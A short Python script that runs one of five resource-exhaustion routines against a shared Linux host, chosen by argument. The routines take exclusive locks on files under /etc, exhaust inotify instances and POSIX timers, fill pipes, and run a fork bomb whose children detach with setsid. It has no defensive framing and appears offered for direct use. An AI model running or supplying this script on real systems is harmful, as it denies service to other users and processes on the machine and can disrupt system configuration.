"""Takes what its user shares: resources.py locks|inotify|timers|pipes|forks"""
import ctypes
import fcntl
import os
import sys
import time

libc = ctypes.CDLL(None, use_errno=True)
held = []


def locks():
    for folder, _, names in os.walk('/etc'):
        for name in names:
            try:
                file = open(os.path.join(folder, name), 'rb')
                held.append(file)
                fcntl.flock(file, fcntl.LOCK_EX | fcntl.LOCK_NB)
            except OSError:
                pass


def inotify():
    while len(held) < 5000:
        descriptor = libc.inotify_init1(0)
        if descriptor < 0:
            break
        held.append(descriptor)
        libc.inotify_add_watch(descriptor, b'/etc', 0xfff)


def timers():
    timer = ctypes.c_void_p()
    for _ in range(200_000):
        if libc.timer_create(1, None, ctypes.byref(timer)) != 0:
            break


def pipes():
    while len(held) < 5000:
        reader, writer = os.pipe2(os.O_NONBLOCK)
        held.append((reader, writer))
        try:
            os.write(writer, b'x' * 65536)
        except BlockingIOError:
            pass


def forks():
    while True:
        try:
            if os.fork() == 0:
                os.setsid()
        except OSError:
            time.sleep(0.01)


try:
    globals()[sys.argv[1]]()
except OSError as error:
    print(error)
time.sleep(60)
